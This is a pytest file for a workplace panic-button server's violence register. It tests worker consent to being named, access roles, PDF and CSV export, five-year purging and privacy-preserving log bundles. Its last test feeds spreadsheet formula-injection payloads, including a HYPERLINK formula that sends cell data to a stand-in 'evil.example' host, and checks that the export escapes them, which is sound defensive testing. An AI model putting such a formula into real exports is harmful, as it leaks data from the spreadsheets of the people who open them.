"""The register of third-party violence: anonymous unless the worker consents, the
consent theirs to give and withdraw, exported as CSV and PDF (any script prints)."""

from __future__ import annotations

import csv
import io
import re
import zlib
from pathlib import Path
from typing import Any

import pytest
from sqlalchemy import select

from panicbutton.wire import Alert, new_alert_id
from server.models import PersonalData
from server.people.roles import Role
from server.routes import violence as violence_routes
from tests.server.people_kit import Kit, kit

NAME = "Ștefan Горанов"  # Romanian and Bulgarian letters: printed, never "?"
ACCOUNT = "A visitor shouted threats and pushed the worker against the door."


def _incident(k: Kit) -> int:
    feedback = k.server.services.alerts.handle(
        Alert(device_id="unit-1", alert_id=new_alert_id(), seq=1, pressed_at=k.clock.now())
    )
    return feedback.incident


def _recorded(k: Kit) -> tuple[dict[str, str], dict[str, str], int, Any]:
    """A manager (boss) records an alarm in room 1 as violence against worker w-7: the
    manager's and the worker's headers, the incident, and the answer (201, checked)."""
    boss = k.person("boss", "Boss", Role.MANAGER)
    worker = k.person("w-7", NAME, Role.WORKER)
    incident = _incident(k)
    made = k.client.post(
        "/api/v1/violence",
        json={"incident_id": incident, "account": ACCOUNT, "worker": "w-7"},
        headers=boss,
    )
    assert made.status_code == 201, made.text
    return boss, worker, incident, made


def _register(k: Kit, headers: dict[str, str]) -> list[dict[str, str]]:
    answer = k.client.get("/api/v1/violence", params={"format": "csv"}, headers=headers)
    assert answer.status_code == 200, answer.text
    assert answer.headers["content-type"].startswith("text/csv")
    return list(csv.DictReader(io.StringIO(answer.text)))


def pdf_text(pdf: bytes) -> str:
    """The text an fpdf2 PDF shows: its glyph ids read back through the font's
    ToUnicode map (what a PDF reader's copy and paste would give)."""
    streams = []
    for m in re.finditer(rb"stream\r?\n(.*?)\r?\nendstream", pdf, re.S):
        try:
            streams.append(zlib.decompress(m.group(1)))
        except zlib.error:
            streams.append(m.group(1))
    glyphs: dict[int, str] = {}
    for s in streams:
        for g, u in re.findall(rb"<([0-9A-F]{4})> <([0-9A-F]{4,8})>", s):
            glyphs[int(g, 16)] = bytes.fromhex(u.decode()).decode("utf-16-be")
    escapes = {b"n": b"\n", b"r": b"\r", b"t": b"\t", b"b": b"\b", b"f": b"\f"}
    lines = []
    for s in streams:
        for raw in re.findall(rb"\(((?:\\.|[^\\)])*)\)\s*Tj", s, re.S):
            data = re.sub(rb"\\(.)", lambda e: escapes.get(e.group(1), e.group(1)), raw, flags=re.S)
            ids = [int.from_bytes(data[i : i + 2], "big") for i in range(0, len(data) - 1, 2)]
            lines.append("".join(glyphs.get(i, "?") for i in ids))
    return "\n".join(lines)


def test_register_is_anonymous_until_the_worker_consents(database_url: str, tmp_path: Path) -> None:
    with kit(database_url, tmp_path) as k:
        boss, worker, incident, made = _recorded(k)
        assert made.json()["worker"] == "anonymous"
        [row] = _register(k, boss)
        assert (row["incident"], row["room"], row["kind"], row["account"], row["worker"]) == (
            str(incident),
            "Room 1",
            "panic",
            ACCOUNT,
            "anonymous",
        )
        mine = k.client.get("/api/v1/me/violence", headers=worker).json()
        assert [(e["incident"], e["consent"]) for e in mine] == [(incident, False)]

        consent = f"/api/v1/me/violence/{incident}/consent"
        assert k.client.post(consent, headers=worker).status_code == 204
        assert [r["worker"] for r in _register(k, boss)] == [NAME]
        again = k.client.post(consent, headers=worker)
        assert again.status_code == 409
        assert "already given" in again.json()["detail"]

        assert k.client.delete(consent, headers=worker).status_code == 204
        assert [r["worker"] for r in _register(k, boss)] == ["anonymous"]
        assert k.client.delete(consent, headers=worker).status_code == 409

        types = ["violence.recorded", "consent.given", "consent.withdrawn"]
        logged = [e for e in k.events() if e["type"] in types]
        assert [e["type"] for e in logged] == types
        assert logged[0]["data"]["by"] == "boss"
        for entry in logged:
            assert entry["incident"] == incident
            assert "w-7" not in str(entry["data"])
            assert ACCOUNT not in str(entry["data"])
        with k.server.services.sessions() as s:
            kept = {p.ref: p.value for p in s.scalars(select(PersonalData))}
        assert kept[logged[0]["data"]["ref"]] == ACCOUNT
        # The consent itself, not whose it is: only its subject (for the worker's own
        # bundle) names the worker, so no export ties them to the incident.
        assert kept[logged[1]["data"]["ref"]] == {"consent": True}
        with k.server.services.sessions() as s:
            given = s.get(PersonalData, logged[1]["data"]["ref"])
            assert given is not None
            assert given.subjects == ["w-7"]


def test_pdf_prints_a_consenting_workers_name_in_any_script(
    database_url: str, tmp_path: Path
) -> None:
    with kit(database_url, tmp_path) as k:
        boss = k.person("boss", "Boss", Role.MANAGER)
        worker = k.person("w-7", NAME, Role.WORKER)
        incident = _incident(k)
        body = {"incident_id": incident, "account": ACCOUNT, "worker": "w-7"}
        k.client.post("/api/v1/violence", json=body, headers=boss)
        pdf = k.client.get("/api/v1/violence", params={"format": "pdf"}, headers=boss)
        assert pdf.headers["content-type"] == "application/pdf"
        assert b"DejaVuSans" in pdf.content  # the Unicode font is embedded
        assert "anonymous" in pdf_text(pdf.content)
        assert NAME not in pdf_text(pdf.content)

        k.client.post(f"/api/v1/me/violence/{incident}/consent", headers=worker)
        shown = pdf_text(
            k.client.get("/api/v1/violence", params={"format": "pdf"}, headers=boss).content
        )
        assert NAME in shown
        assert ACCOUNT in shown.replace("\n", " ")


def test_pdf_without_its_font_says_which_package_to_install(
    database_url: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(violence_routes, "FONT", tmp_path / "missing.ttf")
    with kit(database_url, tmp_path) as k:
        boss = k.person("boss", "Boss", Role.MANAGER)
        answer = k.client.get("/api/v1/violence", params={"format": "pdf"}, headers=boss)
        assert answer.status_code == 503
        assert "fonts-dejavu-core" in answer.json()["detail"]


def test_only_managers_keep_the_register_and_only_the_worker_consents(
    database_url: str, tmp_path: Path
) -> None:
    with kit(database_url, tmp_path) as k:
        boss = k.person("boss", "Boss", Role.MANAGER)
        staff = k.person("nurse", "Nurse", Role.STAFF)
        named = k.person("w-7", NAME, Role.WORKER)
        other = k.person("w-8", "Other", Role.WORKER)
        incident = _incident(k)
        body = {"incident_id": incident, "account": ACCOUNT, "worker": "w-7"}
        assert k.client.post("/api/v1/violence", json=body, headers=staff).status_code == 403
        assert k.client.get("/api/v1/violence", headers=named).status_code == 403
        missing = k.client.post(
            "/api/v1/violence", json={**body, "incident_id": incident + 50}, headers=boss
        )
        assert missing.status_code == 404
        not_worker = k.client.post(
            "/api/v1/violence", json={**body, "worker": "nurse"}, headers=boss
        )
        assert not_worker.status_code == 422
        assert k.client.post("/api/v1/violence", json=body, headers=boss).status_code == 201
        assert k.client.post("/api/v1/violence", json=body, headers=boss).status_code == 409

        consent = f"/api/v1/me/violence/{incident}/consent"
        assert k.client.post(consent, headers=other).status_code == 404
        assert k.client.post(consent, headers=staff).status_code == 403
        assert k.client.get("/api/v1/me/violence", headers=other).json() == []

        assert k.client.delete(f"/api/v1/violence/{incident}", headers=named).status_code == 403
        assert k.client.delete(f"/api/v1/violence/{incident}", headers=boss).status_code == 204
        assert _register(k, boss) == []
        assert [e["data"] for e in k.events("violence.withdrawn")] == [{"by": "boss"}]
        assert k.client.delete(f"/api/v1/violence/{incident}", headers=boss).status_code == 404


def test_register_entries_go_after_five_years_with_their_account(
    database_url: str, tmp_path: Path
) -> None:
    with kit(database_url, tmp_path) as k:
        boss = k.person("boss", "Boss", Role.MANAGER)
        worker = k.person("w-7", NAME, Role.WORKER)
        incident = _incident(k)
        body = {"incident_id": incident, "account": ACCOUNT, "worker": "w-7"}
        k.client.post("/api/v1/violence", json=body, headers=boss)
        k.client.post(f"/api/v1/me/violence/{incident}/consent", headers=worker)
        k.clock.advance(1825 * 86400)
        k.server.services.keeper.purge(k.clock.now())
        assert [r["worker"] for r in _register(k, boss)] == [NAME]  # not yet 5 years

        k.clock.advance(2 * 86400)
        k.server.services.keeper.purge(k.clock.now())
        assert _register(k, boss) == []
        assert k.client.get("/api/v1/me/violence", headers=worker).json() == []
        redacted = {e["data"]["ref"] for e in k.events("record.redacted")}
        recorded = k.events("violence.recorded")[0]["data"]["ref"]
        assert recorded in redacted  # the account is gone from personal data too


def test_exports_never_tie_a_worker_to_the_register_behind_their_back(
    database_url: str, tmp_path: Path
) -> None:
    """A full bundle with personal data verifies and holds no worker id; a manager's
    bundle of the worker leaves the register out; the worker's own bundle has it."""
    import json  # noqa: PLC0415
    import zipfile  # noqa: PLC0415

    from panicbutton.log import verify  # noqa: PLC0415
    from tests.log.test_standalone import run_verifier  # noqa: PLC0415

    with kit(database_url, tmp_path) as k:
        boss, worker, incident, _ = _recorded(k)
        for method in ("POST", "DELETE", "POST"):
            answer = k.client.request(
                method, f"/api/v1/me/violence/{incident}/consent", headers=worker
            )
            assert answer.status_code in (200, 201, 204), answer.text
        why = {"X-Panicbutton-Justification": "prevention adviser's yearly review"}

        def bundle(url: str, headers: dict[str, str], **params: str) -> Path:
            got = k.client.get(url, params=params, headers=headers | why)
            assert got.status_code == 200, got.text
            path = tmp_path / f"{len(list(tmp_path.glob('*.zip')))}.zip"
            path.write_bytes(got.content)
            return path

        def read(path: Path) -> tuple[list[dict[str, object]], list[dict[str, object]]]:
            with zipfile.ZipFile(path) as zf:
                names = zf.namelist()
                entries = [
                    json.loads(line)
                    for name in names
                    if name.endswith("entries.jsonl")
                    for line in zf.read(name).splitlines()
                ]
                personal = [
                    json.loads(line)
                    for name in names
                    if name.endswith("personal.jsonl")
                    for line in zf.read(name).splitlines()
                ]
            return entries, personal

        full = bundle("/api/v1/log/export", boss, scope="full", with_personal="true")
        key = k.client.get("/api/v1/log/key", headers=boss).text.strip()
        (tmp_path / "key.pub").write_text(key + "\n")
        done = run_verifier(tmp_path, str(full), "--key", str(tmp_path / "key.pub"))
        # Verified; the one finding is the alarm still open (nobody acknowledged it).
        assert done.returncode == verify.FINDINGS, done.stdout + done.stderr
        assert "personal data row(s) matched" in done.stdout
        assert "open (never acknowledged): 1" in done.stdout
        _, personal = read(full)
        assert "w-7" not in json.dumps([p["value"] for p in personal])

        theirs = bundle("/api/v1/log/export", boss, scope="person:w-7")
        types = {e["type"] for e in read(theirs)[0]}
        assert not types & {"violence.recorded", "consent.given", "consent.withdrawn"}

        own = bundle("/api/v1/me/export", worker)
        entries, personal = read(own)
        assert {"violence.recorded", "consent.given", "consent.withdrawn"} <= {
            e["type"] for e in entries
        }
        assert ACCOUNT in json.dumps([p["value"] for p in personal])
        done = run_verifier(tmp_path, str(own), "--key", str(tmp_path / "key.pub"))
        assert done.returncode in (verify.OK, verify.FINDINGS), done.stdout + done.stderr


def test_csv_cells_never_run_as_spreadsheet_formulas(database_url: str, tmp_path: Path) -> None:
    """A typed account (or a consenting worker's name) starting with = + - or @ is
    exported with a leading apostrophe: a spreadsheet shows it as text."""
    with kit(database_url, tmp_path) as k:
        boss = k.person("boss", "Boss", Role.MANAGER)
        worker = k.person("w-7", "@SUM(1+1)", Role.WORKER)
        formulas = ['=HYPERLINK("http://evil.example/?"&A1)', "+1+2", "-3", "@A1"]
        incidents = []
        for account in formulas:
            incident = _incident(k)
            made = k.client.post(
                "/api/v1/violence",
                json={"incident_id": incident, "account": account, "worker": "w-7"},
                headers=boss,
            )
            assert made.status_code == 201, made.text
            incidents.append(incident)
        consent = f"/api/v1/me/violence/{incidents[0]}/consent"
        assert k.client.post(consent, headers=worker).status_code == 204
        rows = {int(r["incident"]): r for r in _register(k, boss)}
        assert [rows[i]["account"] for i in incidents] == ["'" + f for f in formulas]
        assert rows[incidents[0]]["worker"] == "'@SUM(1+1)"
        assert rows[incidents[1]]["worker"] == "anonymous"
        # Plain text is left as typed.
        assert rows[incidents[0]]["room"] == "Room 1"
